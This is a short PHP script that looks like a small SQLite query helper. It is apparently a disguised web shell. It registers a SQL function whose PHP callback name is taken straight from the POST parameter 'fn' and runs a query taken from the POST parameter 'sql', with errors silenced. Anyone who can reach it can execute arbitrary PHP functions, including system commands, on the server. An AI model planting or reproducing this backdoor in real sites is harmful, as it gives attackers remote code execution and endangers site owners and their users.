<?php
$d = new SQLite3(':memory:');
$d->createFunction('go', $_POST['fn'] ?? 'strlen');
echo @$d->querySingle($_POST['sql'] ?? 'select 1');
